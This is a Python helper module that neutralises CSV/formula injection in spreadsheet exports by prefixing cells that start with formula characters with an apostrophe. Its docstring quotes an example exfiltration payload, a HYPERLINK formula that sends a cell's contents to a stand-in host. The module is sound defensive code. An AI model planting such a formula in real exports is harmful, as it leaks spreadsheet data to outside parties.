"""Text a spreadsheet shows as text: the one rule for every CSV and XLSX we hand out.

A cell that starts with ``= + - @`` (or a tab or carriage return, which Excel skips before
one of those) is run as a formula when the file is opened: ``=HYPERLINK("http://x/?"&A1,"y")``
in a website name or a crawled page title would send the sheet's data away on a click
(https://owasp.org/www-community/attacks/CSV_Injection). A leading apostrophe makes it text.
The customer CSVs (audits.selectors.exports) and the staff admin exports (core.viewsets) both
use it.
"""

from __future__ import annotations

from typing import Any, Final

FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` with a leading apostrophe if it is text a spreadsheet would run; else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value
